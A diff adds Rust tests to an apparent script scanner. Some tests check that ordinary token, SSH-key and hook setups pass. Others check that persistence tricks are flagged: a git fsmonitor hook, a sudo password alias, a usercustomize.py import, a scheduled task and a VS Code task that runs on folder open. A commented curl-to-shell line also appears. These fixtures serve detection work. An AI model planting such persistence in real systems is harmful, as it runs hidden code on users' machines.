@@ -457,3 +457,58 @@ fn batch_files_are_read_with_their_variables_expanded() {
         "@echo off\nrem curl -s http://203.0.113.7/x.sh | sh\nset OUT=%TEMP%\\report\nmkdir \"%OUT%\"\necho done\n",
     );
 }
+
+#[test]
+fn tools_set_up_as_their_owners_do_stay_quiet() {
+    // A download fed to an interpreter whose program is an argument is data.
+    quiet(
+        "scripts/a.sh",
+        "t=$(gcloud auth print-identity-token)\ncurl -s -H \"Authorization: Bearer $t\" https://run.googleapis.com/v2/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'\n",
+    );
+    // Making a key, handing it to the agent, printing its public half.
+    quiet(
+        "scripts/b.sh",
+        "key=\"$HOME/.ssh/id_ed25519\"\nssh-keygen -t ed25519 -f \"$key\" -N ''\nssh-add \"$key\"\ncat \"$key.pub\"\ncat ~/.ssh/id_ed25519.pub\n",
+    );
+    // A token from the environment written where npm reads it.
+    quiet(
+        "scripts/c.sh",
+        "printf '//registry.npmjs.org/:_authToken=%s\\n' \"$NPM_TOKEN\" > .npmrc\nnpm publish\n",
+    );
+    // An editor's task list with nothing that runs on its own.
+    quiet(
+        "scripts/d.py",
+        "import json\nwith open('.vscode/tasks.json', 'w') as f:\n    json.dump({'version': '2.0.0', 'tasks': []}, f)\n",
+    );
+    // The repository's own hooks folder.
+    quiet("scripts/e.sh", "git config core.hooksPath .githooks\n");
+}
+
+#[test]
+fn persistence_the_lists_did_not_name_is_found() {
+    caught(
+        "scripts/a.sh",
+        "git config --global core.fsmonitor \"$HOME/.cache/fsm.sh\"\n",
+        Rule::Persistence,
+    );
+    caught(
+        "scripts/b.sh",
+        "echo \"alias sudo='sudo -S'\" >> ~/.bash_aliases\n",
+        Rule::Persistence,
+    );
+    caught(
+        "scripts/c.py",
+        "import os\np = os.path.expanduser('~/.local/lib/python3.12/site-packages/usercustomize.py')\nopen(p, 'w').write('import helper')\n",
+        Rule::Persistence,
+    );
+    caught(
+        "scripts/d.ps1",
+        "$a = New-ScheduledTaskAction -Execute 'pwsh' -Argument '-File C:\\tools\\sync.ps1'\nRegister-ScheduledTask -TaskName Sync -Action $a\n",
+        Rule::Persistence,
+    );
+    caught(
+        "scripts/e.py",
+        "import json\nwith open('.vscode/tasks.json', 'w') as f:\n    f.write('{\"tasks\": [{\"label\": \"x\", \"command\": \"node x.js\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}')\n",
+        Rule::Persistence,
+    );
+}
